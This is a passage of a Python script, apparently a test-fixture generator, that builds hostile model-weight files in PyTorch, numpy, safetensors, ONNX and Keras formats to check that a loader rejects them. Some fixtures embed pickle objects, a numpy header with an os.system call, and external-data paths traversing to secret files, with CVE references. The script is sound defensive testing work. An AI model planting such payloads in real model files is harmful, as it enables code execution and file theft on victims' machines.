    return (b"\x80\x02}X\x11\x00\x00\x00lstm.weight_ih_l0" + b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\n" + storage + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu" + i(numel) + b"tQ" + i(offset) + tup(shape) + tup(stride or [1] * len(shape)) + b"\x89ccollections\nOrderedDict\n)RtRs.")
torch_zip("tensor_huge.pt", rebuild([2**40, 2**20]), [("data/0", b"\0" * 16)]); note("tensor_huge.pt", "error", "huge shape", "a tensor of 2^60 elements over 16 bytes", allow=["labelled"])
torch_zip("tensor_negative.pt", rebuild([-4, 80]), [("data/0", b"\0" * 16)]); note("tensor_negative.pt", "error", "wrong size", "a negative axis")
torch_zip("tensor_offset.pt", rebuild([16, 4], [4, 1], offset=2**40), [("data/0", b"\0" * 16)]); note("tensor_offset.pt", "error", "wrong size", "the tensor begins far behind its storage", "CVE-2026-24747 (sizes that do not agree corrupt memory in weights_only loading)", allow=["labelled"])
torch_zip("tensor_many_axes.pt", rebuild([1] * 4000), [("data/0", b"\0" * 16)]); note("tensor_many_axes.pt", "error", "huge shape", "4 000 axes", allow=["labelled"])
torch_zip("tensor_no_storage.pt", rebuild([2, 2], [2, 1])); note("tensor_no_storage.pt", "either", "missing part", "the storage's entry is missing: shape and name are still known")
torch_zip("zip_two_pickles.pt", pkl, [x for x in rest if x[0] not in ("byteorder", "version")] + [("../archive/data.pkl", pickle.dumps(Run(), 2))]); note("zip_two_pickles.pt", "either", "duplicate entries", "a second data.pkl by another path")
with zipfile.ZipFile(out / "zip_pickle_elsewhere.pt", "w") as z:
    z.writestr("a/data.pkl", pickle.dumps({"x": 1}, 2)); z.writestr("b/data.pkl", pickle.dumps(Run(), 2)); z.writestr("a/version", "3\n")
note("zip_pickle_elsewhere.pt", "error", "duplicate entries", "two archives in one: a/ is harmless, b/ is not", "CVE-2025-1944 (scanner and loader read different entries)")
with tarfile.open(out / "legacy_tar.pt", "w") as t:
    for n, d in (("storages", pickle.dumps(Run(), 2)), ("tensors", b""), ("pickle", pickle.dumps({}, 2))):
        i = tarfile.TarInfo(n); i.size = len(d); t.addfile(i, io.BytesIO(d))
note("legacy_tar.pt", "error", "pickle", "the tar format of 2016: its loader skipped weights_only", "CVE-2025-32434")
(out / "pickle_in_h5_name.hdf5").write_bytes(pickle.dumps(Run(), 2)); note("pickle_in_h5_name.hdf5", "error", "pickle", "a pickle with an .hdf5 name: never guess by trying to load")
for n, ext in (("weights", "pkl"), ("weights", "joblib")):
    (out / (n + "." + ext)).write_bytes(pickle.dumps([np.zeros((5, 16), "f4"), Run()], 2)); note(n + "." + ext, "error", "pickle", "get_weights() kept with pickle: say that such a file cannot be read safely and what to do instead")

# ------------------------------------------------------------------ npz, safetensors, ONNX
np.savez(out / "objects.npz", kernel=np.array([Run()], dtype=object)); note("objects.npz", "error", "pickle", "an array of objects needs pickle", allow=["labelled"])
def npy(header, data=b""):
    h = header.encode(); h += b" " * (-(len(h) + 11) % 64) + b"\n"; return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + data
for name, header, why in (("npy_huge.npz", "{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776, 80), }", "a shape of terabytes"), ("npy_code.npz", "{'descr': '<f4', 'fortran_order': False, 'shape': (__import__('os').system('true'),), }", "an expression instead of a number"),
                          ("npy_deep.npz", "{'descr': " + "[" * 3000 + "]" * 3000 + ", 'fortran_order': False, 'shape': (1,), }", "3 000 brackets")):
    with zipfile.ZipFile(out / name, "w") as z: z.writestr("arr_0.npy", npy(header))
    note(name, "error", "header", why, allow=["labelled"] if "huge" in name else None)
def st(name, header, data=b"", length=None, expect="error", why="", allow=None):
    h = header if isinstance(header, bytes) else json.dumps(header).encode()
    (out / name).write_bytes(struct.pack("<Q", len(h) if length is None else length) + h + data); note(name, expect, "header", why, allow=allow)
T = lambda shape, a, b, d="F32": {"dtype": d, "shape": shape, "data_offsets": [a, b]}
st("header_huge.safetensors", b"{}", length=2**63, why="a header of 2^63 bytes")
st("header_100mb.safetensors", b"{" + b" " * 1000, length=99_000_000, why="a header of 99 MB in a file of 1 kB")
st("header_zero.safetensors", b"", length=0, why="a header of no bytes")
st("offsets_outside.safetensors", {"lstm.weight_ih_l0": T([16, 4], 0, 256)}, b"\0" * 16, why="offsets past the end", allow=["labelled"])
st("offsets_backwards.safetensors", {"lstm.weight_ih_l0": T([16, 4], 256, 0)}, b"\0" * 256, why="the end is before the beginning", allow=["labelled"])
st("offsets_overlap.safetensors", {"lstm.weight_ih_l0": T([16, 4], 0, 256), "lstm.weight_hh_l0": T([16, 4], 128, 384)}, b"\0" * 384, why="two tensors share bytes", allow=["labelled"])
st("shape_lie.safetensors", {"lstm.weight_ih_l0": T([2**40, 4], 0, 256)}, b"\0" * 256, why="the shape does not fit the bytes", allow=["labelled"])
st("shape_negative.safetensors", {"lstm.weight_ih_l0": T([-16, 4], 0, 256)}, b"\0" * 256, why="a negative axis")
st("shape_float.safetensors", {"lstm.weight_ih_l0": T([16.5, True], 0, 256)}, b"\0" * 256, why="axes that are no whole numbers")
st("dtype_unknown.safetensors", {"lstm.weight_ih_l0": T([16, 4], 0, 256, "F13")}, b"\0" * 256, why="a type that does not exist", expect="either")
st("header_list.safetensors", b"[1, 2]", why="the header is a list")
st("header_deep.safetensors", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, why="50 000 levels")
st("metadata_number.safetensors", {"__metadata__": 5, "lstm.weight_ih_l0": T([16, 4], 0, 256)}, b"\0" * 256, why="__metadata__ is a number", allow=["labelled"])
st("duplicate_key.safetensors", b'{"lstm.weight_ih_l0": {"dtype":"F32","shape":[16,4],"data_offsets":[0,256]}, "lstm.weight_ih_l0": {"dtype":"F32","shape":[4,16],"data_offsets":[0,256]}}', b"\0" * 256, why="one name twice", allow=["labelled"])
st("no_match.safetensors", {"lstm.weight_ih_l0": T([17, 4], 0, 272), "lstm.weight_hh_l0": T([17, 4], 272, 544)}, b"\0" * 544, why="17 rows are no number of gates", expect="either")
st("million_tensors.safetensors", b"{" + b",".join(b'"t%d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}' % j for j in range(300_000)) + b"}", why="300 000 tensors", expect="either")
def varint(n):
    s = b""
    while True:
        s += bytes([n & 127 | (128 if n > 127 else 0)]); n >>= 7
        if not n: return s
def field(number, data): return varint(number << 3 | 2) + varint(len(data)) + data
def tensor(name, dims, extra=b""): return field(5, b"".join(varint(1 << 3) + varint(d & (2**64 - 1)) for d in dims) + varint(2 << 3) + b"\x01" + field(8, name.encode()) + extra)
def model(graph): return varint(1 << 3) + b"\x08" + field(7, graph)
def op(kind, inputs, hidden=4): return field(1, b"".join(field(1, i.encode()) for i in inputs) + field(2, b"y") + field(3, b"n") + field(4, kind.encode()) + field(5, field(1, b"hidden_size") + varint(3 << 3) + varint(hidden) + varint(20 << 3) + b"\x02"))
def external(location): return field(13, field(1, b"location") + field(2, location.encode())) + varint(14 << 3) + b"\x01"
def onnx(name, data, expect, why, cve=None, allow=None): (out / name).write_bytes(data); note(name, expect, "onnx", why, cve, allow)
wrb = ["x", "W", "R", "B"]
onnx("external_traversal.onnx", model(op("LSTM", wrb) + tensor("W", [1, 16, 6], external("junk/../../secret.bin")) + tensor("R", [1, 16, 4], external(str(out / "secret.bin"))) + tensor("B", [1, 32])), "labelled", "external data outside the folder: shapes are in the model, the data is never opened", "CVE-2022-25882, CVE-2024-27318, CVE-2026-27489")
onnx("external_pipe.onnx", model(op("LSTM", wrb) + tensor("W", [1, 16, 6], external("pipe.hdf5")) + tensor("R", [1, 16, 4]) + tensor("B", [1, 32])), "labelled", "external data in a named pipe")
onnx("dims_huge.onnx", model(op("LSTM", wrb) + tensor("W", [1, 2**62, 2**62]) + tensor("R", [1, 16, 4]) + tensor("B", [1, 32])), "either", "dims of 2^62")
onnx("dims_negative.onnx", model(op("LSTM", wrb) + tensor("W", [1, -16, 6]) + tensor("R", [1, 16, 4]) + tensor("B", [1, 32])), "error", "a negative dim", allow=["labelled"])
onnx("hidden_lie.onnx", model(op("LSTM", wrb, hidden=5) + tensor("W", [1, 16, 6]) + tensor("R", [1, 16, 4]) + tensor("B", [1, 32])), "error", "hidden_size 5, arrays of 4", allow=["labelled"])
onnx("length_lie.onnx", varint(7 << 3 | 2) + varint(2**40) + b"abc", "error", "a field longer than the file")
def inside(depth):
    g = b""
    for _ in range(depth): g = field(1, field(4, b"If") + field(5, field(1, b"then_branch") + field(6, g) + varint(20 << 3) + b"\x05"))
    return g
onnx("deep_subgraphs.onnx", model(inside(3000)), "either", "3 000 graphs inside one another")
onnx("varint_endless.onnx", b"\x80" * 4096, "error", "a number that never ends")
onnx("groups.onnx", b"\x0b" * 100_000, "error", "100 000 opening groups")

# ------------------------------------------------------------------ other folders and formats
d = out / "saved_model_bad"; (d / "variables").mkdir(parents=True); (d / "saved_model.pb").write_bytes(b"\x08\x01\x12\xff\xff\xff\xff\x0f"); (d / "variables/variables.index").write_bytes(b"\0" * 64); note("saved_model_bad", "error", "corrupt", "a SavedModel folder of rubbish")
(out / "model.json").write_text(json.dumps({"modelTopology": {"model_config": {"class_name": "Sequential", "config": []}}, "weightsManifest": [{"paths": ["../secret.bin"], "weights": [{"name": "lstm/kernel", "shape": [4, 80], "dtype": "float32"}]}]})); note("model.json", "either", "reads another file", "a TensorFlow.js manifest whose weights lie in ../secret.bin")
(out / "bi.sharded.weights.json").write_text(json.dumps({"metadata": {"total_size": 1}, "weight_map": {"/layers/lstm/cell/vars": ["../../secret.h5", "/dev/zero"]}})); note("bi.sharded.weights.json", "error", "reads another file", "a sharded Keras checkpoint whose shards lie elsewhere", allow=["labelled"])

(out / "manifest.json").write_text(json.dumps({"schema": 1, "secret": "SECRET-3f9a1c77", "files": rows}, indent=1))
print(len(rows), "hostile files,", sum(p.stat().st_size for p in out.rglob("*") if p.is_file() and not p.is_symlink()) >> 20, "MiB")
